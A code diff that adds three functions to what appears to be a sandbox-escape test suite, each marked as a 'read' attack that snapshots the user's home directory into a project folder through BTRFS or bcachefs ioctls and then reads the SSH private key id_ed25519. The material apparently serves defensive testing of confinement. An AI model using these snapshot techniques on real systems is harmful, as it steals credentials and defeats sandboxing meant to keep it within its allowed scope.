@@ -331,3 +331,27 @@ def hidden_by_acct_or_swap(t: Targets) -> Any:
         call("swapon", t.path(KEY), 0)
         return "swapon"
     return call("acct", t.path(KEY))
+
+
+@attack("read")
+def key_by_a_snapshot(t: Targets) -> Any:
+    """BTRFS_IOC_SNAP_CREATE_V2: the home, its hidden directories with it, as a new folder of the project."""
+    source, project = os.open(t.home, os.O_RDONLY), os.open(t.project, os.O_RDONLY)
+    fcntl.ioctl(project, 0x50009417, bytearray(struct.pack("=q48x4040s", source, b"snapshot")))
+    return read(t.project + "/snapshot/.ssh/id_ed25519")
+
+
+@attack("read")
+def key_by_an_older_snapshot_call(t: Targets) -> Any:
+    source, project = os.open(t.home, os.O_RDONLY), os.open(t.project, os.O_RDONLY)
+    fcntl.ioctl(project, 0x50009401, bytearray(struct.pack("=q4088s", source, b"snapshot")))
+    return read(t.project + "/snapshot/.ssh/id_ed25519")
+
+
+@attack("read")
+def key_by_a_snapshot_of_bcachefs(t: Targets) -> Any:
+    """BCH_IOCTL_SUBVOLUME_CREATE with BCH_SUBVOL_SNAPSHOT_CREATE."""
+    source, target = (ctypes.create_string_buffer(name.encode()) for name in (t.home, t.project + "/snapshot"))
+    addresses = ctypes.addressof(target), ctypes.addressof(source)
+    fcntl.ioctl(os.open(t.project, os.O_RDONLY), 0x4020BC10, struct.pack("=IiH6xQQ", 1, -100, 0o700, *addresses))
+    return read(t.project + "/snapshot/.ssh/id_ed25519")
